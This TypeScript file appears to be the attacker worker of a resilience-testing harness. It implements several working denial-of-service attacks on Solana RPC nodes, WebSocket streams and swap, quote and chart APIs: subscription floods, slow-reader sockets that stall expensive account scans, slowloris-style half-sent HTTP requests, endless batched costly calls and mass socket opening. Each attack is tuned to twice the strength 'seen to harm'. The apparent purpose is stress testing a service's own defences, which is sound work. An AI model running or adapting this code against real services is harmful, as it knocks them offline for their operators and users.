import { connect, type Socket } from 'node:net'
import { WebSocket } from 'ws'
import type { AttackName, AttackTask, Target } from './target.ts'

const TOKEN_PROGRAM = 'TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA'
/** Sockets that are opened at a time. */
const OPENED_AT_ONCE = 50

const { name, target, scale, from } = JSON.parse(process.argv[2] ?? '{}') as AttackTask

let hasReported = false

type Attack = (target: Target, scale: number) => Promise<void>

/** Every case at twice the strength that was seen to harm, times `scale`. */
const ATTACKS: Readonly<Record<AttackName, Attack>> = {
  async subscriptions({ wsUrl, url }, scale) {
    const each = Math.round(1_000 * scale)
    for (const at of [wsUrl, `${url.replace('http', 'ws')}/rpc`]) {
      const socket = await openSocket(at)
      for (let id = 1; id <= each; id++) subscribe(socket, id, {})
      for (let id = 1; id <= each; id++) subscribe(socket, each + id, { filters: [distinctFilter(id)] })
    }
    const sockets = await openSockets(wsUrl, 20)
    for (const [index, socket] of sockets.entries())
      for (let id = 1; id <= 100; id++)
        subscribe(socket, id, { filters: [distinctFilter(10_000 + 100 * index + id)] })
  },

  async slowReaders({ rpcUrl, wsUrl, url }, scale) {
    const scan = rpcRequest('getProgramAccounts', [TOKEN_PROGRAM, { encoding: 'base64' }])
    for (const at of [rpcUrl, `${url}/rpc`])
      for (let i = 0; i < 24 * scale; i++) {
        const socket = await openRaw(at)
        for (let pipelined = 0; pipelined < 8; pipelined++) socket.write(httpPost(at, scan))
        socket.pause()
      }
    for (const at of [wsUrl, `${url.replace('http', 'ws')}/rpc`])
      for (const socket of await openSockets(at, 24 * scale)) {
        subscribe(socket, 1, {})
        socket.send(rpcRequest('blockSubscribe', ['all', { maxSupportedTransactionVersion: 0 }]))
        socket.pause()
      }
  },

  async stalledRequests({ rpcUrl, url }, scale) {
    const openings = [
      'POST /rpc HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{',
      'GET / HTTP/1.1\r\nhost: x\r\nx-more: ',
      'POST /api/swap/v1/swap HTTP/1.1\r\nhost: x\r\ncontent-length: 99999999\r\n\r\n{',
      'POST /nothing HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n\r\n{',
      'nonsense\r\n\r\n',
      '',
    ]
    for (let i = 0; i < 300 * scale; i++)
      for (const at of [url, rpcUrl]) (await openRaw(at)).write(openings[i % openings.length]!)
  },

  async scans({ rpcUrl, url }, scale) {
    const calls = Array.from({ length: 100 }, (_, id) => ({
      jsonrpc: '2.0',
      id,
      method: 'getProgramAccounts',
      params: [TOKEN_PROGRAM, { encoding: id % 2 === 0 ? 'base64' : 'jsonParsed' }],
    }))
    const batch = JSON.stringify(calls)
    await Promise.all(
      [rpcUrl, `${url}/rpc`].flatMap((at) =>
        Array.from({ length: 4 * scale }, () => forever(() => post(at, batch))),
      ),
    )
  },

  async smallCalls({ rpcUrl }, scale) {
    const calls = Array.from({ length: 100 }, (_, id) => ({
      jsonrpc: '2.0',
      id,
      method: ['getSignaturesForAddress', 'getTokenLargestAccounts', 'getLargestAccounts'][id % 3],
      params: [[TOKEN_PROGRAM], ['So11111111111111111111111111111111111111112'], []][id % 3],
    }))
    const batch = JSON.stringify(calls)
    await Promise.all(Array.from({ length: 64 * scale }, () => forever(() => post(rpcUrl, batch))))
  },

  async sockets({ url, wsUrl }, scale) {
    await openSockets(`${url.replace('http', 'ws')}/stream`, Math.round(2_000 * scale))
    await openSockets(wsUrl, Math.round(1_000 * scale))
  },

  async resumes({ url, mints }, scale) {
    const sockets = await openSockets(`${url.replace('http', 'ws')}/stream`, 64 * scale)
    for (const socket of sockets)
      socket.send(JSON.stringify({ type: 'subscribe:txns', assets: mints.slice(0, 500) }))
    await forever(async () => {
      for (const socket of sockets) socket.send(JSON.stringify({ type: 'resume', since: 0 }))
      await wait(1_000)
    })
  },

  async charts({ url, mints }, scale) {
    await Promise.all(
      Array.from({ length: 32 * scale }, (_, index) =>
        forever(() => {
          const mint = mints[index % mints.length]!
          const query = `interval=${index % 2 === 0 ? '1_SECOND' : '1_MINUTE'}&candles=1000&to=${Date.now() + 1e12}`
          return get(`${url}/data/v2/charts/${mint}?${query}&type=price`)
        }),
      ),
    )
  },

  async quotes({ url, mints }, scale) {
    await Promise.all(
      Array.from({ length: 32 * scale }, (_, index) =>
        forever(() => {
          const [inputMint, outputMint] = [mints[index % mints.length]!, mints[(index + 7) % mints.length]!]
          const amount = String(10n ** BigInt(9 + (index % 4)))
          const more = { maxAccounts: '64', withGap: 'true', restrictIntermediateTokens: 'false' }
          const query = new URLSearchParams({ inputMint, outputMint, amount, ...more })
          return get(`${url}/api/swap/v1/quote?${query}`)
        }),
      ),
    )
  },
}

/** Every subscription of its own: 32 bytes that no account has. */
function distinctFilter(number: number): object {
  const bytes = Buffer.alloc(32)
  bytes.writeUInt32LE(number)
  return { memcmp: { offset: number % 64, bytes: bytes.toString('base64'), encoding: 'base64' } }
}

function subscribe(socket: WebSocket, id: number, options: object): void {
  const params = [TOKEN_PROGRAM, { encoding: 'jsonParsed', commitment: 'processed', ...options }]
  socket.send(JSON.stringify({ jsonrpc: '2.0', id, method: 'programSubscribe', params }))
}

function rpcRequest(method: string, params: readonly unknown[]): string {
  return JSON.stringify({ jsonrpc: '2.0', id: 1, method, params })
}

function httpPost(at: string, body: string): string {
  const path = new URL(at).pathname
  return `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`
}

function openRaw(at: string): Promise<Socket> {
  const { hostname, port } = new URL(at)
  const options = { host: hostname, port: Number(port), localAddress: from, allowHalfOpen: true }
  return new Promise((resolve) => {
    const socket = connect(options, () => {
      reportConnected()
      resolve(socket)
    })
    // What the server ends is not opened again: the attack is what the server still holds.
    socket.on('error', () => resolve(socket))
  })
}

function openSocket(at: string): Promise<WebSocket> {
  return new Promise((resolve) => {
    const socket = new WebSocket(at, { localAddress: from })
    socket.on('open', () => {
      reportConnected()
      resolve(socket)
    })
    socket.on('error', () => resolve(socket))
  })
}

/** Tells the process that started this one that its attack has begun. */
function reportConnected(): void {
  if (hasReported) return
  hasReported = true
  process.send?.('connected')
}

/** Those that the server has accepted. */
async function openSockets(at: string, count: number): Promise<WebSocket[]> {
  const opened: WebSocket[] = []
  for (let left = count; left > 0; left -= OPENED_AT_ONCE)
    opened.push(
      ...(await Promise.all(Array.from({ length: Math.min(left, OPENED_AT_ONCE) }, () => openSocket(at)))),
    )
  return opened.filter(({ readyState }) => readyState === WebSocket.OPEN)
}

const post = (at: string, body: string) => exchange(at, httpPost(at, body))
const get = (at: string) => {
  const { pathname, search } = new URL(at)
  return exchange(at, `GET ${pathname}${search} HTTP/1.1\r\nhost: x\r\n\r\n`)
}

/** One request on a connection of its own, read until the connection is silent or closed. */
async function exchange(at: string, request: string): Promise<void> {
  const socket = await openRaw(at)
  socket.write(request.replace('\r\n', '\r\nconnection: close\r\n'))
  await new Promise<void>((resolve) => {
    socket.on('data', () => undefined)
    socket.on('end', () => socket.destroy())
    socket.on('close', () => resolve())
  })
}

async function forever(act: () => Promise<void>): Promise<void> {
  for (;;) {
    const startedAt = performance.now()
    await act()
    // A refusal at once is asked again at once, but not in a loop that starves the attacker itself.
    if (performance.now() - startedAt < 2) await wait(2)
  }
}

const wait = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms))

// The attacker is ended by the process that started it, with all its connections.
setInterval(() => undefined, 1_000)
await ATTACKS[name](target, scale)
